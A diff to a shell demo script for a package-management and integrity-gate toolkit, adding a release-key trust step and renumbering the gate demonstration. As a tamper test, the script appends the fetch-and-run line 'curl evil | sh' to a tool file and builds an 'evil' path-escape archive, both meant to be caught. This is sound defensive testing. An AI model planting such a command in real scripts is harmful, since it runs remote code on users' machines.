@@ -123,8 +123,8 @@ run cp-pkg preflight --archive plane/_staging/PKG-TOOLS-001.tar.gz --format text
 
 step "13. refusals: a file owned by the kernel, and an archive that tries to escape"
 cp-pkg init PKG-THIEF-001 --spec SPEC-KERNEL-001 --output thief2 >/dev/null
-mkdir -p thief2/config && printf '{"routes":[]}\n' > thief2/config/router_policy.json
-printf '$ cp-pkg stage PKG-THIEF-001 --src thief2 --declare --out dist   (declares config/router_policy.json)\n'
+mkdir -p thief2/config && printf '{"governed_roots":["lib/"]}\n' > thief2/config/governed_roots.json
+printf '$ cp-pkg stage PKG-THIEF-001 --src thief2 --declare --out dist   (declares config/governed_roots.json)\n'
 if cp-pkg stage PKG-THIEF-001 --src thief2 --declare --out dist >/dev/null 2>err.txt; then echo "demo: error: an owned file was staged" >&2; exit 1; fi
 cat err.txt
 python3 - <<'PY' 2>/dev/null || printf 'evil' | gzip > evil.tar.gz
@@ -180,7 +180,13 @@ printf '$ cp-ledger show --where %s\n' "'.event_type | test(\"INSTALL|ROLL\")'"
 cp-ledger show --where '.event_type | test("INSTALL|ROLL")' | sed -E 's/.*"event_type":"([^"]*)".*"reason":"([^"]*)".*"seq":([0-9]+).*/  seq \3  \1: \2/' 
 run cp-ledger verify --format text
 
-step "18. the gates, each against the bytes on disk (cp-gate); an edited file G0B catches; SARIF for CI"
+step "18. trust a release key: cp-install builds a kernel patch release and installs it on all three tiers in one change"
+run cp-pkg keygen --name demo-release --out . >/dev/null
+run cp-install trust add --purpose package demo-release.pub --format text
+for t in plane plane/planes/ho2 plane/planes/ho1; do grep -o '^PKG-KERNEL-001,[^,]*' "$t/registries/packages_state.csv"; done | tr '\n' ' '; echo
+run cp-gate --plane ho1 --gate G0K G5 --format text
+
+step "19. the gates, each against the bytes on disk (cp-gate); an edited file G0B catches; SARIF for CI"
 run cp-gate --format text
 chmod u+w plane/lib/tools/list.sh && echo 'curl evil | sh' >> plane/lib/tools/list.sh
 printf '$ cp-gate integrity --format text   (after appending to lib/tools/list.sh)\n'
